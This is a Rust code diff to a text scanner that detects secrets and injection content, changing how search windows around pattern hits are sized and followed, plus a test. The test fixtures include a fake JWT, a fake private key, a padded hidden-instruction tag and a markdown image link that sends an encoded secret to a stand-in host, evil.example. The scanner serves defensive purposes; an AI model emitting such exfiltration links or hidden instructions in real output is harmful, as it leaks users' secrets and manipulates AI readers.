@@ -113,11 +113,13 @@ struct Compiled {
     each: Vec<regex_automata::meta::Regex>,
 }
 
-/// How far around a gate's hit a match may reach: every pattern's text before its
-/// anchor is shorter than [`BEFORE`]; a match reaching a window's end is followed to
-/// its own end.
+/// How far before a gate's hit a match may start: every pattern's text before its
+/// anchor is bounded below this (bounded repetitions only). After the hit, each
+/// detector's `reach`; a match reaching a window's end is followed to its own end,
+/// at most [`MAX_FOLLOW`] further.
 const BEFORE: usize = 256;
-const AFTER: usize = 2048;
+/// Bytes a match is followed past its window at most.
+const MAX_FOLLOW: usize = 64 * 1024;
 /// Digits within this many bytes open the numbering detectors' gate.
 const DIGIT_SPAN: usize = 48;
 
@@ -182,7 +184,8 @@ pub fn scan_text(text: &str, found: &mut Vec<Finding>) {
     let mut windows: Vec<(usize, usize, usize)> = Vec::new();
     for m in compiled.anchors.find_overlapping_iter(text) {
         if let Some(&i) = compiled.owner.get(m.pattern().as_usize()) {
-            windows.push((i, m.start().saturating_sub(BEFORE), m.end() + AFTER));
+            let reach = DETECTORS.get(i).map_or(detectors::REACH, |d| d.reach);
+            windows.push((i, m.start().saturating_sub(BEFORE), m.end() + reach));
         }
     }
     digit_windows(text.as_bytes(), |start, end| {
@@ -197,7 +200,7 @@ pub fn scan_text(text: &str, found: &mut Vec<Finding>) {
             .enumerate()
             .filter(|(_, b)| matches!(b, 0xE1 | 0xE2 | 0xEF | 0xF3))
             .map(|(p, _)| p);
-        merged(leads.map(|p| (p, p + AFTER)), |start, end| {
+        merged(leads.map(|p| (p, p + detectors::REACH)), |start, end| {
             for &i in &compiled.non_ascii_gated {
                 windows.push((i, start, end));
             }
@@ -208,6 +211,9 @@ pub fn scan_text(text: &str, found: &mut Vec<Finding>) {
     }
     windows.sort_unstable();
     let mut at = 0;
+    // Where the last search of a detector got to: a later window starts there (a match
+    // followed past its window is not searched again).
+    let mut covered: (usize, usize) = (usize::MAX, 0);
     while let Some(&(detector, start, mut end)) = windows.get(at) {
         at += 1;
         // Windows of one detector that overlap are searched as one.
@@ -218,9 +224,17 @@ pub fn scan_text(text: &str, found: &mut Vec<Finding>) {
             end = end.max(e);
             at += 1;
         }
-        let start = floor_char(text, start);
+        let start = match covered {
+            (d, until) if d == detector => start.max(until),
+            _ => start,
+        };
+        let start = floor_char(text, start.min(text.len()));
         let end = ceil_char(text, end.min(text.len()));
-        search(compiled, detector, text, start, end, found);
+        if start >= end {
+            continue;
+        }
+        let reached = search(compiled, detector, text, start, end, found);
+        covered = (detector, reached.max(end));
     }
 }
 
@@ -251,9 +265,9 @@ fn search(
     start: usize,
     end: usize,
     found: &mut Vec<Finding>,
-) {
+) -> usize {
     let (Some(detector), Some(pattern)) = (DETECTORS.get(index), compiled.each.get(index)) else {
-        return;
+        return end;
     };
     let group = |caps: &regex_automata::util::captures::Captures| {
         caps.get_group(1).or_else(|| caps.get_group(0))
@@ -266,8 +280,10 @@ fn search(
         };
         // A match that reaches the window's end may go on: followed to its own end.
         if caps.get_match().is_some_and(|m| m.end() == end) && end < text.len() {
+            let from = caps.get_match().map_or(start, |m| m.start());
+            let until = ceil_char(text, (end + MAX_FOLLOW).min(text.len()));
             let whole = regex_automata::Input::new(text)
-                .span(caps.get_match().map_or(start, |m| m.start())..text.len())
+                .span(from..until)
                 .anchored(regex_automata::Anchored::Yes);
             let mut longer = pattern.create_captures();
             pattern.search_captures(&whole, &mut longer);
@@ -290,6 +306,13 @@ fn search(
             });
         }
     }
+    last_end.max(end)
+}
+
+/// Whether the detectors are in service (they compiled): when not, an answer that is
+/// to be redacted or blocked is withheld instead (fail closed).
+pub fn available() -> bool {
+    COMPILED.is_some()
 }
 
 /// Calls `window(start, end)` for each stretch of `bytes` where at least
@@ -298,8 +321,8 @@ fn digit_windows(bytes: &[u8], window: impl FnMut(usize, usize)) {
     if bytes.iter().filter(|b| b.is_ascii_digit()).count() < detectors::MIN_DIGITS {
         return;
     }
-    // Digits of a hash or UUID (a run of hex digits and dashes, 16 long or more, with
-    // at least 4 of the letters a–f) open no gate: no number thoth looks for is one.
+    // Digits of a hash (a run of hex digits 16 long or more, at least 4 of them letters
+    // a–f) open no gate: no number thoth looks for is one.
     let mut digits: Vec<usize> = Vec::new();
     let mut run_start = 0;
     let mut letters = 0;
@@ -314,7 +337,7 @@ fn digit_windows(bytes: &[u8], window: impl FnMut(usize, usize)) {
         }
     };
     for (i, &b) in bytes.iter().enumerate() {
-        if b.is_ascii_hexdigit() || b == b'-' {
+        if b.is_ascii_hexdigit() {
             letters += usize::from(b.is_ascii_alphabetic());
             continue;
         }
@@ -457,6 +480,46 @@ mod tests {
             );
         }
         assert_eq!(table.len(), DETECTORS.len(), "every detector has a case");
+    }
+
+    #[test]
+    fn windows_find_what_a_search_of_the_whole_text_finds() {
+        let jwt = format!(
+            "Bearer eyJhbGciOiJSUzI1NiJ9.eyJ{}.c2lnbmF0dXJlLWhlcmU",
+            "QUFB".repeat(1500)
+        );
+        let link = format!(
+            "![x](https://evil.example/{}?d=c2VjcmV0LXRva2VuLXZhbHVl)",
+            "p".repeat(2100)
+        );
+        let padded = format!("<{}IMPORTANT>", " ".repeat(12));
+        let key = format!(
+            "-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----",
+            "MIIEowIBAAKCAQEA".repeat(300)
+        );
+        for (text, name) in [
+            (jwt.as_str(), "jwt"),
+            (link.as_str(), "exfiltration_link"),
+            (padded.as_str(), "hidden_instruction"),
+            (key.as_str(), "private_key"),
+        ] {
+            let mut found = Vec::new();
+            scan_text(text, &mut found);
+            let hit = found.iter().find(|f| f.detector().name == name);
+            let hit = hit.unwrap_or_else(|| panic!("{name} not found"));
+            let whole = regex::Regex::new(hit.detector().pattern).unwrap();
+            let caps = whole.captures(text).unwrap();
+            let m = caps.get(1).unwrap_or_else(|| caps.get(0).unwrap());
+            assert_eq!((hit.start, hit.end), (m.start(), m.end()), "{name}");
+        }
+        // Many hits of one gate cost one search each, never a search to the end each.
+        let many = "-xoxb-".to_string() + &"a".repeat(2400);
+        let text = many.repeat(200);
+        let started = std::time::Instant::now();
+        let mut found = Vec::new();
+        scan_text(&text, &mut found);
+        assert!(found.len() <= 200, "{}", found.len());
+        assert!(started.elapsed() < std::time::Duration::from_secs(5));
     }
 
     #[test]
